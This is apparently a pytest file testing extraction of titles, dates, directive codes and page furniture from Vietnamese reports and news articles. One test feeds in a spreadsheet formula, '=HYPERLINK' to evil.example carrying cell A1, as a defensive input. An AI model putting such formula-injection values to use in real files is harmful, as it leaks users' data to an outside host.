"""Extraction against hand-labelled gold (tests/gold/) and its hard cases in isolation."""

import datetime as dt
import importlib.util
import json

import pytest

from search.ingest.article import article_lines, furniture
from search.ingest.metadata.date import title_period
from search.ingest.metadata.directives import code_mentions
from search.ingest.metadata.title import TITLE_MAX_CHARS
from search.ingest.report import parse_document
from search.text import codes

from .conftest import ROOT, SEEDS

GOLD = ROOT / "tests" / "gold"
GOVDOCS = ROOT.parent / "shared" / "corpora" / "govdocs" / "ground-truth"
SEED_GOLD = json.loads((GOLD / "seeds_metadata.json").read_text(encoding="utf-8"))["reports"]
VNTC_GOLD = json.loads((GOLD / "vntc_articles.json").read_text(encoding="utf-8"))["articles"]


@pytest.fixture(scope="module")
def seeds():
    return {p.name: parse_document(p.name, p.read_text(encoding="utf-8")) for p in SEEDS.glob("*.txt")}


@pytest.mark.parametrize("name", sorted(SEED_GOLD))
def test_seed_metadata_matches_gold(seeds, name):
    gold, doc = SEED_GOLD[name], seeds[name]
    assert doc.title == gold["title"]
    assert doc.date_precision == gold["date_precision"]
    assert doc.date.isoformat().startswith(gold["date"])
    assert doc.organization == gold["organization"]
    assert sorted(doc.directives) == sorted(gold["directives"])
    assert not set(doc.directives) & set(gold["not_directives"])
    for code, date in gold["directive_dates"].items():
        assert doc.directive_info[code]["date"] == date


def test_junk_stays_out_of_passages(seeds):
    junk = ["Các bài viết khác", "ngày trước)", "Thống kê truy cập", "Đang online", "Chia sẻ",
            "Go top", "Tin, ảnh: THẾ HOÀNG", "Bài viết: Hữu Nghĩa", "Thứ Sáu, 22/11/2024", "Mới nhất",
            "cuốn sách của Tổng Bí thư"]
    for doc in seeds.values():
        for passage in doc.passages:
            assert not any(j in passage.text for j in junk), passage.text[:80]


def test_year_only_date_covers_the_year(seeds):
    doc = seeds["002_653785d83756d3f5.txt"]
    assert doc.date_range == (dt.date(2021, 1, 1), dt.date(2021, 12, 31))


def test_citation_dates_are_not_the_report_date():
    text = ("Tiêu đề báo cáo công tác của Ban Tuyên giáo\n"
            "Thực hiện Chỉ thị số 519-CT/TU ngày 6/4/2020 của Ban Thường vụ.")
    doc = parse_document("x.txt", text)
    assert doc.date is None


@pytest.mark.parametrize(
    "raw, code",
    [
        ("05-ct/tw", "05-CT/TW"), ("1300/CĐ-TTg", "1300/CĐ-TTG"), ("02/2006/CT-TTG", "02/2006/CT-TTG"),
        ("144 /2002/QĐ/BTC", "144/2002/QĐ-BTC"), ("114/2003/ NĐ-CP", "114/2003/NĐ-CP"),
        ("30/2000/TTLT/BTC-UBTDTT", "30/2000/TTLT-BTC-UBTDTT"), ("60 TC/CĐKT", "60-TC/CĐKT"),
        ("05-CT/TƯ", "05-CT/TW"),
    ],
)
def test_code_normalisation(raw, code):
    assert [c for c, _, _ in codes.find_codes(f"theo văn bản số {raw} của cơ quan")] == [code]


def test_codes_are_not_dates_forms_or_list_items():
    text = "ngày 15/5/2016, giai đoạn 2020-2025, theo mẫu số: 02/GTGT, mục 1-Quy định, COVID-19"
    assert codes.find_codes(text) == []


def test_typo_repaired_against_the_codes_cited():
    found = [c for c, _, _ in code_mentions("Chỉ thị số 05-CT/TW ... thực hiện Chỉ thị số 05-CT/W")]
    assert found == ["05-CT/TW", "05-CT/TW"]


@pytest.mark.parametrize(
    "text, code",
    [
        ("Tiếp tục thực hiện Chỉ thị 05 của Bộ Chính trị về học tập", "05-CT/TW"),
        ("Nghị quyết số 35 của Bộ Chính trị", "35-NQ/TW"),
        ("Kết luận 01 của Ban Bí thư", "01-KL/TW"),
    ],
)
def test_bare_mentions_resolved_from_the_issuer(text, code):
    assert [c for c, _, _ in code_mentions(text)] == [code]


def test_bare_mention_without_issuer_resolved_from_the_text():
    text = "Chỉ thị số 26-CT/TW của Ban Bí thư. Thực hiện tốt Chỉ thị 26 trong dịp Tết."
    assert [c for c, _, _ in code_mentions(text)] == ["26-CT/TW", "26-CT/TW"]
    assert code_mentions("Thực hiện Chỉ thị 26 trong dịp Tết.") == []  # unknown issuer: left out


@pytest.mark.parametrize(
    "spec, matches, rejects",
    [
        ("05-CT/TW", ["05-CT/TW"], ["05-NQ/TW", "5-CT/TU"]),
        ("CT 05", ["05-CT/TW", "5-CT/TU"], ["05-NQ/TW"]),
        ("Chỉ thị 05", ["05-CT/TW"], ["05-KL/TW"]),
        ("chỉ thị số 5 của Bộ Chính trị", ["05-CT/TW"], ["05-CT/TU"]),
    ],
)
def test_directive_spellings(spec, matches, rejects):
    wanted = codes.parse_directive_spec(spec)
    assert all(wanted.matches(c) for c in matches)
    assert not any(wanted.matches(c) for c in rejects)


def test_end_markers_cut_the_page():
    text = "Tiêu đề bài viết về công tác tuyên giáo\nNội dung chính.\nMột đoạn nữa.\nCác tin khác\nTin khác 1"
    assert article_lines(text) == ["Tiêu đề bài viết về công tác tuyên giáo", "Nội dung chính.", "Một đoạn nữa."]


@pytest.mark.skipif(not GOVDOCS.is_dir(), reason="../shared/corpora/govdocs not present")
def test_code_extraction_on_govdocs_gold():
    import subprocess
    import sys

    out = subprocess.run([sys.executable, str(ROOT / "scripts" / "eval_extract.py")],
                         capture_output=True, text=True, check=True).stdout
    figures = {line.split("|")[1].strip(): float(line.split("|")[2]) for line in out.splitlines()
               if line.startswith("| code ")}
    assert figures["code precision"] >= 0.95 and figures["code recall"] >= 0.95


# ------------------------------------------------------------ issue 17: each rule alone

FILLER = "Nội dung được các cơ quan chức năng kiểm tra, đối chiếu và báo cáo kịp thời cho lãnh đạo."


def _passage_text(doc) -> str:
    return "\n".join(p.text for p in doc.passages)


def test_narrative_dates_are_not_the_report_date():
    text = ("Đồng ý bồi thường hơn 250 triệu đồng cho người oan sai\n"
            "Phó chánh án TAND tỉnh cho biết, chiều 24/6 hội đồng đã thương lượng xong mức bồi thường.\n"
            "Trước đó, ngày 20/3/1980, anh Chiến bị tuyên phạt tù chung thân. Anh sinh năm 1962.\n")
    doc = parse_document("x.txt", text)
    assert doc.date is None and doc.date_precision is None


def test_issue_example_1327_has_no_1980_date():
    name = "Phap_luat__train__PL__VNE__(1327).txt"
    doc = parse_document(name, (GOLD / "vntc" / name).read_text(encoding="utf-8"))
    assert doc.date is None


def test_day_and_month_without_a_year_is_no_date():
    doc = parse_document("x.txt", f"Tiêu đề một bản tin thời sự trong nước\nSáng 28/3, tại Hà Nội, {FILLER}\n")
    assert doc.date is None


def test_year_stated_nearby_completes_a_day_and_month():
    # the title's period names the same month (seed 004: "Chiều 28/12" under "... tháng 12/2023")
    doc = parse_document("x.txt", f"Hội nghị báo cáo viên tháng 12/2023\nChiều 28/12, tại Hà Nội, {FILLER}\n")
    assert (doc.date, doc.date_precision) == (dt.date(2023, 12, 28), "day")
    # a bare year in the sentence names an award, not the date's year
    doc = parse_document("x.txt", "Vinh danh 15 Việt kiều\n"
                         "Ngày 28-12, báo công bố danh hiệu Vinh danh Nước Việt 2005.\n")
    assert doc.date is None


@pytest.mark.parametrize("lead, date", [
    ("(NLĐ)- Sáng 1-1-2006, Liên hiệp các tổ chức hữu nghị đã trao kỷ niệm chương.", dt.date(2006, 1, 1)),
    ("(NLĐ)- Lúc 4 giờ sáng 1-1-2006, tại nhà 233A9/5, KP3, hai tên cướp đã đột nhập.", dt.date(2006, 1, 1)),
    ("TT (TP.HCM) - Sáng nay, 17-9-2003, toà tiếp tục xét hỏi bị cáo.", dt.date(2003, 9, 17)),
    ("Ngày 25/2/2005, Viện KSND tối cao đã hoàn tất cáo trạng và truy tố 17 bị can.", dt.date(2005, 2, 25)),
    ("Chiều 20.4.2006, Thanh tra Bộ Văn hoá Thông tin đã tiến hành thanh tra một trung tâm.", dt.date(2006, 4, 20)),
    # an untagged opening that tells of another day than the report's
    ("Đêm 1-1-2001, do có va chạm, hai nhóm thanh niên đã đuổi đánh nhau.", None),
    ("Ngày 28/2/2005 tới đây, tòa án quận Brooklyn sẽ nghe luật sư hai bên.", None),
    ("Ngày 4/1/2005 sẽ diễn ra hội thảo giới thiệu học bổng.", None),
    ("Ngày 22-8-2005, cơ quan điều tra khởi tố các bị can trên về hành vi cố ý làm trái.", None),
    ("Ngày 25/1/1995, anh đã làm chấn động thế giới bóng đá. Và 10 năm trôi qua, anh vẫn không hối hận.", None),
    ("Rạng sáng 24/12/2003, một cô gái đến công an trình báo. Đến ngày 28/12/2003, công an bắt 5 thanh niên.",
     None),
])
def test_datelines(lead, date):
    doc = parse_document("x.txt", f"Một bản tin ngắn về sự việc trong ngày\n{lead} {FILLER}\n")
    assert doc.date == date
    assert doc.date_precision == ("day" if date else None)


def test_place_and_date_line():
    doc = parse_document("x.txt", f"Thư cảm ơn bạn đọc\n{FILLER}\n{FILLER}\nBắc Ninh, ngày Ngâu, 2006\n")
    assert (doc.date, doc.date_precision) == (dt.date(2006, 1, 1), "year")
    doc = parse_document("x.txt", f"Lời kêu gọi\n{FILLER}\nTPHCM, ngày 31-12-2004\n")
    assert (doc.date, doc.date_precision) == (dt.date(2004, 12, 31), "day")
    # a quoted poem's date under a text that names later years is the poem's
    doc = parse_document("x.txt", f"Nhà thơ và mối tình\nTôi gặp lại nàng năm 1979. {FILLER}\nBucharest, 19/3/1969\n")
    assert doc.date is None


@pytest.mark.parametrize("title, period", [
    ("Trung Quốc: Án điển hình 2005", (dt.date(2005, 1, 1), "year")),
    ("Những kết quả nổi bật công tác Tuyên giáo năm 2021", (dt.date(2021, 1, 1), "year")),
    ("Hội nghị báo cáo viên tháng 12/2023", (dt.date(2023, 12, 1), "month")),
    ("Cúp mùa Xuân 2006: Lại lỗi hẹn", None),
    ("Hoa hậu Festival biển 2006: Vũ Ngọc Diệp đăng quang", None),
    ("FAO dự đoạn giá gạo sẽ tăng vào đầu 2005", None),
    ("Đội hình tiêu biểu Serie A mùa bóng 2003-2004", None),
    ("Bibica điều chỉnh báo cáo tài chính năm 2003", None),
])
def test_title_period(title, period):
    assert title_period(title) == period


def test_related_article_lists_are_furniture():
    lines = ["Bài viết về vụ án tham nhũng ở công ty bảo hiểm.", FILLER,
             "Tạm giam 4 tháng hai nguyên lãnh đạo PJICO(17/05/2005)",
             "Phi Hùng đã xuất hiện tại cơ quan điều tra(13/01)", "Xem tiếp",
             "Xem video clip \"Đêm Mỹ Sơn - Hành trình di sản - phần 1",
             "&gt;&gt; HLV Riedl lùi thời gian sang VN&gt;&gt; Bắt giam 2 HLV",
             "• Nâng cao chất lượng các văn kiện (16 ngày trước)", FILLER]
    assert furniture(lines) == [None, None, "related", "related", "chrome", "related", "related", "related", None]
    # a date the author puts in parentheses, after a space, is the author's
    assert furniture(["Vòng 21 (23/1)", FILLER]) == [None, None]


def test_captions_and_credits_are_furniture():
    lines = [FILLER,
             "Ảnh: Đồng chí Sơn Minh Thắng, Ủy viên Trung ương Đảng, Bí thư Đảng ủy Khối phát biểu tại Hội nghị",
             FILLER, "Văn Quyến đang đi bóng. Ảnh: Sĩ Huyên", FILLER,
             "Một VĐV rơi gần mép nước. - Ảnh: T.T.D.", "Tranh thủ đọc qua Cẩm nang tư vấn mùa thi (ảnh: Ngọc Thạch)",
             "VĐV Nguyễn Thị Ngà (trái).", FILLER, "Một góc vũ trường hằng đêm", FILLER,
             "Tin, ảnh: THẾ HOÀNG"]
    kinds = furniture(lines)
    assert [k for k in kinds if k] == ["caption"] * 7
    # a credit followed by the article's own sentences is the author's paragraph
    credit_then_text = ("Ảnh: Q.LIÊM Vòng 9 Giải hạng Nhất sẽ diễn ra vào chiều 11-3. Các đội đã sẵn sàng. "
                        "Đội chủ nhà quyết tâm giành ba điểm.")
    assert furniture([FILLER, credit_then_text, FILLER]) == [None, None, None]


def test_photo_gallery_captions():
    lines = ["Phóng viên gửi về những hình ảnh sau đây về cơn bão. " + FILLER,
             "Toàn cảnh cơn bão số 7", "Đường phố khu 1 Đồ Sơn mênh mông như biển",
             "Xe ô tô cũng chết máy"]
    assert furniture(lines) == [None, "caption", "caption", "caption"]
    lines = [FILLER + " " + FILLER, "Rừng tan hoang, cây bị đốn còn trơ lại gốc.", "Đám trẻ cũng vào rừng."]
    assert furniture(lines, title="Chùm ảnh: Theo trâu đi phá rừng") == [None, "caption", "caption"]


def test_breadcrumb_and_category_label_above_the_headline():
    text = ("Thứ Sáu, 22/11/2024\nTuyên giáo các cấp\nThứ Năm, 13/4/2023 7:53'(GMT+7)\n\n"
            "Bắc Kạn: Hội nghị giao ban công tác tuyên giáo quý I/2023\n\n" + FILLER + "\n")
    doc = parse_document("x.txt", text)
    assert doc.title == "Bắc Kạn: Hội nghị giao ban công tác tuyên giáo quý I/2023"
    assert doc.date == dt.date(2023, 4, 13)
    assert "Tuyên giáo các cấp" not in _passage_text(doc)
    doc = parse_document("x.txt", "Trang chủ > Tin tức > Thời sự\nTiêu đề bản tin về công tác tuyên giáo\n" + FILLER)
    assert doc.title == "Tiêu đề bản tin về công tác tuyên giáo" and "Trang chủ" not in _passage_text(doc)


def test_duplicated_lines():
    # a short line given twice is a photo's alt text and caption: both go
    lines = ["Đại biểu dự Hội nghị.", "Đại biểu dự Hội nghị.", FILLER]
    assert furniture(lines) == ["caption", "duplicate", None]
    assert None not in furniture(["Quang cảnh Hội nghị.", "Quang cảnh Hội nghị."])
    # a paragraph scraped twice keeps one copy
    assert furniture([FILLER, FILLER, "Đoạn cuối."]) == [None, "duplicate", None]
    # the headline repeated in the text goes
    doc = parse_document("x.txt", "Tiêu đề bản tin về công tác tuyên giáo\nTiêu đề bản tin về công tác tuyên giáo\n"
                         + FILLER)
    assert "Tiêu đề" not in _passage_text(doc)


def test_long_first_line_is_cut_to_its_headline():
    lead = "(NLĐ)- Ngày 12-4, Công ty Kiểm định xây dựng Sài Gòn đã tiến hành kiểm định hạng mục cống hộp. "
    doc = parse_document("x.txt", "Kiểm định 32 mét cống hộp " + lead + FILLER * 20 + "\n" + FILLER)
    assert doc.title == "Kiểm định 32 mét cống hộp"
    assert doc.passages[0].text.startswith("(NLĐ)- Ngày 12-4")
    # a headline, its caption and the lead on one line: cut where the caption starts
    doc = parse_document("x.txt", "Nga: Cháy bệnh viện tâm thần, 7 người chết Ít nhất 7 người thiệt mạng, "
                         "12 người bị thương trong vụ cháy bệnh viện tâm thần tư nhân. " + FILLER * 20)
    assert doc.title == "Nga: Cháy bệnh viện tâm thần, 7 người chết"
    assert doc.passages[0].text.startswith("Ít nhất 7 người thiệt mạng")
    # a long first line without a headline: its first sentence, never over the limit
    sentence = ("hội đồng xem xét báo cáo công tác tuyên giáo " * 40).strip().capitalize()
    doc = parse_document("x.txt", sentence + ". " + FILLER)
    assert len(doc.title) <= TITLE_MAX_CHARS + 1 and doc.title.endswith("…")


def test_short_first_line_is_a_title_and_last_line_is_kept():
    doc = parse_document("x.txt", "Báo cáo một\nNội dung dài của báo cáo về công tác tuyên giáo năm nay.\n"
                         "Dòng hai tuyên giáo\n")
    assert doc.title == "Báo cáo một"
    assert _passage_text(doc).endswith("Dòng hai tuyên giáo")
    # a signature is dropped: a name, initials, a name with its agency
    for sign in ["Lệ Như", "A.H", "T.Dũng", "Diệp Trương (TTXVN)", "M.C. (theo BBC)"]:
        doc = parse_document("x.txt", f"Báo cáo một\n{FILLER}\n{sign}\n")
        assert not _passage_text(doc).endswith(sign), sign


def test_a_formula_in_the_body_is_not_the_title():
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây") công tác tuyên giáo cần kiểm tra. ' + FILLER
    doc = parse_document("=1+1.txt", f"Báo cáo một\n{hyperlink}\n")
    assert doc.title == "Báo cáo một"
    doc = parse_document("=1+1.txt", f"Báo cáo kiểm tra ô nhiễm ký tự\nHà Nội, ngày 13 tháng 3 năm 2001\n{hyperlink}\n")
    assert doc.title == "Báo cáo kiểm tra ô nhiễm ký tự" and doc.date == dt.date(2001, 3, 13)
    assert doc.passages[-1].text.endswith(hyperlink)


def test_a_page_that_is_only_its_headline_keeps_it_as_text():
    doc = parse_document("x.txt", "Báo cáo sơ kết công tác dân vận năm 2022")
    assert [p.text for p in doc.passages] == ["Báo cáo sơ kết công tác dân vận năm 2022"]


def test_seed_passages_hold_no_title_breadcrumb_or_caption(seeds):
    for doc in seeds.values():
        text = _passage_text(doc)
        assert doc.title not in text
        assert "Ảnh:" not in text
    lines = _passage_text(seeds["001_a764983588b6760c.txt"]).split("\n")
    assert "Tuyên giáo các cấp" not in lines and "Quang cảnh Hội nghị." not in lines


# ------------------------------------------------------------------ the VNTC gold


def _eval_extract():
    spec = importlib.util.spec_from_file_location("eval_extract", ROOT / "scripts" / "eval_extract.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_vntc_gold_figures():
    """Issue 17's targets on the VNTC gold (the texts are in tests/gold/vntc/)."""
    scores = _eval_extract().vntc_scores()
    assert scores["articles"] >= 200
    assert scores["date precision"] >= 0.99
    assert scores["date recall"] >= 0.95
    assert scores["furniture removed"] >= 0.95
    assert scores["author lines kept"] >= 0.99


@pytest.mark.parametrize("name", sorted(n for n, g in VNTC_GOLD.items() if g["date"]))
def test_vntc_gold_dates(name):
    gold = VNTC_GOLD[name]
    doc = parse_document(name, (GOLD / "vntc" / name).read_text(encoding="utf-8"))
    assert doc.date is not None and doc.date.isoformat()[: len(gold["date"])] == gold["date"]


def test_vntc_gold_undated_articles_get_no_date():
    wrong = []
    for name, gold in sorted(VNTC_GOLD.items()):
        if gold["date"] is None:
            doc = parse_document(name, (GOLD / "vntc" / name).read_text(encoding="utf-8"))
            if doc.date is not None:
                wrong.append((name, doc.date))
    assert wrong == []


def test_spreadsheet_rows_are_not_breadcrumbs():
    """A sheet's rows are its cells joined by " | " (formats/sheet.py): the author's text, not page chrome."""
    lines = ["Sheet1", "DANH MỤC DỰ ÁN GỌI VỐN ĐẦU TƯ", "STT | Tên dự án | Địa điểm | Quy mô",
             "1 | Thăm dò và khai thác vàng | Tỉnh Lạng Sơn | 30 tấn",
             "2 | Sản xuất gạch men | Cao Lộc | 300.000 m2/năm"]
    from search.ingest.article import furniture

    assert furniture(lines)[2:] == [None, None, None]
    page = ["Trang chủ > Tin tức > Thời sự", "Nội dung bài viết dài đủ để là một đoạn văn."]
    assert furniture(page)[0] == "breadcrumb"
